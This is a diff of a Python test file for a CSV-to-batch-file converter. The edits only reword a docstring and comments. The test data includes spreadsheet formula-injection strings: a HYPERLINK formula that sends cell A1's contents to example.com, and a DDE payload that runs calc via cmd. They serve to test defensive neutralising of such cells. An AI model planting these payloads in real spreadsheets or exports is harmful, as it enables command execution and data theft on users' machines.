@@ -1,4 +1,4 @@
-"""septet batch: from a spreadsheet's CSV to the vendor's batch file, or to a line that says why not."""
+"""septet batch: from a spreadsheet's CSV to the vendor's batch file, or to a line that tells why not."""
 
 from __future__ import annotations
 
@@ -189,11 +189,11 @@ def test_the_refused_rows_go_into_a_file_that_can_be_mended_and_given_again() ->
     assert result.exit_code == 0, result.stderr
     assert Path("more.csv").read_bytes() == HEADER + b'"0612345678","b",""\n"0612345678","l\'eau",""\n'
     assert "'line'" not in result.stderr
-    # It is there all the same, so that an older one is not taken for this one's.
+    # It is there anyway, so that an older one is not taken for this one's.
     assert Path("none.csv").read_text("utf-8-sig") == "numero;message;ville;line;problem\n"
 
 
-#: What a spreadsheet would run, or show without its first sign; each is a text all the same.
+#: Texts that a spreadsheet would run, or show without their first sign.
 LIVE = [
     '=HYPERLINK("http://example.com?x="&A1;"Votre colis")',
     *("=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1", " =1", '"=1', "\u00a0=1", "'=1", "'à 10 €"),
@@ -230,7 +230,7 @@ def test_mended_rows_have_their_texts_as_they_were() -> None:
     save(table([["numero", "message"], *(["12", text] for text in LIVE)]), "utf-8")
     assert invoke("batch", "in.csv", "out.csv", "--rejects", "refused.csv").exit_code == 1
     mended = Path("refused.csv").read_text("utf-8-sig").replace("\n12;", "\n0612345678;")
-    # What the one who mends it writes anew is no guard.
+    # An apostrophe that the corrector writes is not a guard.
     Path("mended.csv").write_text(mended + "0612345678;'t is;99;mine\n", "utf-8")
     result = invoke("batch", "mended.csv", "out.csv", "--force")
     texts = [row.text for row in septet.read_batch_file("out.csv")]
